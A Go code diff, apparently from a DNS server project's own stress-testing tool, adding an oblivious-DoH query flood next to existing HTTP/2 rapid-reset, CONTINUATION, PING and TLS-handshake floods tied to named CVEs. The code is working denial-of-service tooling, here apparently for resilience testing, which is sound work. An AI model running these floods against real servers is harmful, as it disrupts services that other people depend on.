@@ -22,6 +22,7 @@ import (
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
 
+	"github.com/shoji-dns/shoji/internal/odoh"
 	"github.com/shoji-dns/shoji/internal/rogue"
 )
 
@@ -34,6 +35,7 @@ func kinds() map[string]func(context.Context, target) (int, error) {
 		"tls-handshake":    floods(handshake),
 		"dot-queries":      floods(dotQueries),
 		"doh-queries":      floods(h2Flood(h2Query)),
+		"odoh-queries":     odohQueries,
 		"doh-reset":        floods(h2Flood(h2Reset)),
 		"doh-continuation": floods(h2Flood(h2Continuation)),
 		"doh-ping":         floods(h2Flood(func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })),
@@ -214,21 +216,51 @@ func h2Flood(write func(f *http2.Framer, stream uint32) error) step {
 	}
 }
 
-func h2Fields() []byte {
+func h2Fields(contentType string) []byte {
 	var block bytes.Buffer
 	enc := hpack.NewEncoder(&block)
 	enc.SetMaxDynamicTableSize(0)
-	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/dns-query"}, {"content-type", "application/dns-message"}} {
+	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/dns-query"}, {"content-type", contentType}} {
 		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
 	}
 	return block.Bytes()
 }
 
 func h2Query(f *http2.Framer, stream uint32) error {
-	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, EndHeaders: true, BlockFragment: h2Fields()}); err != nil {
+	return h2Post(f, stream, "application/dns-message", []byte(query))
+}
+
+func h2Post(f *http2.Framer, stream uint32, contentType string, body []byte) error {
+	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, EndHeaders: true, BlockFragment: h2Fields(contentType)}); err != nil {
 		return err
 	}
-	return f.WriteData(stream, true, []byte(query))
+	return f.WriteData(stream, true, body)
+}
+
+// odohQueries sends the same oblivious query again and again: it costs the client next to nothing, and
+// the server a key exchange.
+func odohQueries(ctx context.Context, to target) (int, error) {
+	web := &http.Client{Transport: &http.Transport{TLSClientConfig: security("h2"), ForceAttemptHTTP2: true}}
+	res, err := web.Get("https://" + to.doh.String() + odoh.ConfigsPath)
+	if err != nil {
+		return 0, err
+	}
+	defer res.Body.Close()
+	configs, err := io.ReadAll(res.Body)
+	if err != nil {
+		return 0, err
+	}
+	key, err := odoh.ParseConfigs(configs)
+	if err != nil {
+		return 0, err
+	}
+	sealed, _, err := key.Seal([]byte(query))
+	if err != nil {
+		return 0, err
+	}
+	return floods(h2Flood(func(f *http2.Framer, stream uint32) error {
+		return h2Post(f, stream, "application/oblivious-dns-message", sealed)
+	}))(ctx, to)
 }
 
 // h2Reset is CVE-2023-44487.
@@ -242,7 +274,7 @@ func h2Reset(f *http2.Framer, stream uint32) error {
 // h2Continuation is CVE-2024-27316 and its kin: a header block without an end.
 func h2Continuation(f *http2.Framer, stream uint32) error {
 	if stream == 1 {
-		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h2Fields()})
+		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h2Fields("application/dns-message")})
 	}
 	return f.WriteContinuation(1, false, []byte("\x00\x01a\x01b"))
 }
